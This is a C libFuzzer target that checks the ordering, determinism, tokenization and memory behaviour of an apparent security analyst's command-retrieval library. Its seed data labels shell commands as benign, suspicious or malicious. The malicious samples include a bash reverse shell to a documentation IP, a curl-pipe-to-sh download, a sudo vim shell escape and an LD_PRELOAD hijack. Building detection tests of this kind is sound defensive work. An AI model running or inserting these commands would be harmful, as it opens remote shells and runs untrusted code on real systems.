/*
 * fuzz/retrieve — libFuzzer target for the analyst's example retrieval:
 * kb_query and kb_tokenize on arbitrary command-line bytes (event fields
 * reach them verbatim), and, for one input in four, kb_load_mem on the bytes
 * as a JSON-lines example base.
 *
 * A small base is built in memory at start.  The first input byte picks k
 * (0..31), the diversity option and the mode; the rest is the text.
 *
 * Properties: a query returns 0..k hits, in order (score descending, index
 * ascending), each index in range, each score finite and > 0, no index twice;
 * the same query again gives the same hits; a tokenization into a small
 * buffer counts the same tokens as into a large one and stays NUL-terminated
 * inside the buffer; a load either succeeds or fails with NJ_EFORMAT,
 * NJ_ETOOBIG or -ENOMEM; no memory stays allocated after each input.  Built
 * and run by scripts/fuzz (needs -Isrc/analyst until every src folder is on
 * the include path).
 */
#include "retrieve.h"
#include "util.h"

#include <math.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char base_text[] =
    "{\"cmd\": \"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\", \"label\": \"malicious\", \"technique\": \"T1059.004\", \"why\": \"r.\"}\n"
    "{\"cmd\": \"nc -z db.internal 5432\", \"label\": \"benign\", \"technique\": null, \"why\": \"b.\"}\n"
    "{\"cmd\": \"find / -perm -4000 -type f 2>/dev/null\", \"label\": \"suspicious\", \"technique\": \"T1083\", \"why\": \"s.\"}\n"
    "{\"cmd\": \"curl -fsSL http://192.0.2.9/x | sh\", \"label\": \"malicious\", \"technique\": \"T1105\", \"why\": \"d.\"}\n"
    "{\"cmd\": \"curl -o go.tgz https://go.dev/dl/go.tgz\", \"label\": \"benign\", \"technique\": null, \"why\": \"v.\"}\n"
    "{\"cmd\": \"sudo vim -c ':!/bin/sh'\", \"label\": \"malicious\", \"technique\": \"T1548.003\", \"why\": \"e.\"}\n"
    "{\"cmd\": \"cat /etc/passwd\", \"label\": \"suspicious\", \"technique\": \"T1087.001\", \"why\": \"a.\"}\n"
    "{\"cmd\": \"git status\", \"label\": \"benign\", \"technique\": null, \"why\": \"g.\"}\n"
    "{\"cmd\": \"LD_PRELOAD=/tmp/.x.so ls\", \"label\": \"malicious\", \"technique\": \"T1574.006\", \"why\": \"p.\"}\n"
    "{\"cmd\": \"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d > /tmp/x\", \"label\": \"suspicious\", \"technique\": \"T1140\", \"why\": \"c.\"}\n";

static nj_kb *kb;
static nj_kb_searcher *srch;

int LLVMFuzzerInitialize(int *argc, char ***argv) {
    (void)argc; (void)argv;
    int err = 0;
    kb = kb_load_mem(base_text, sizeof base_text - 1, "fuzz base", NULL, &err);
    srch = kb ? kb_searcher_new(kb, &err) : NULL;
    if (!srch) { fprintf(stderr, "fuzz/retrieve: setup failed: %s\n", nj_last_error()); abort(); }
    return 0;
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
    if (size == 0) return 0;
    int k = data[0] & 31;
    kb_query_opts o = {(data[0] & 32) ? 0.3 : 0};
    const char *text = (const char *)data + 1;
    size_t len = size - 1;
    size_t before = nj_mem_in_use();

    if ((data[0] >> 6) == 3) {   /* the bytes as an example base */
        int err = 0;
        nj_kb *b = kb_load_mem(text, len, "fuzz", NULL, &err);
        if (b) {
            nj_kb_searcher *s = kb_searcher_new(b, &err);
            if (s) {
                kb_hit h[4];
                if (kb_query(s, text, len, 4, &o, h) < 0) abort();
                kb_searcher_free(s);
            }
            kb_free(b);
        } else if (err != NJ_EFORMAT && err != NJ_ETOOBIG && err != -ENOMEM) {
            abort();
        }
        if (nj_mem_in_use() != before) abort();
        return 0;
    }

    kb_hit h[32], h2[32];
    int n = kb_query(srch, text, len, k, &o, h);
    if (n < 0 || n > k) abort();
    for (int i = 0; i < n; i++) {
        if (h[i].index >= kb_size(kb) || !(h[i].score > 0) || !isfinite(h[i].score)) abort();
        if (i && (h[i - 1].score < h[i].score ||
                  (h[i - 1].score == h[i].score && h[i - 1].index >= h[i].index)))
            abort();
        for (int j = 0; j < i; j++) if (h[j].index == h[i].index) abort();
    }
    if (kb_query(srch, text, len, k, &o, h2) != n) abort();
    for (int i = 0; i < n; i++) if (h[i].index != h2[i].index || h[i].score != h2[i].score) abort();

    char small[16], big[1 << 16];
    int t1 = kb_tokenize(text, len, small, sizeof small);
    int t2 = kb_tokenize(text, len, big, sizeof big);
    if (t1 != t2 || t1 < 0 || memchr(small, '\0', sizeof small) == NULL) abort();
    if (nj_mem_in_use() != before) abort();
    return 0;
}
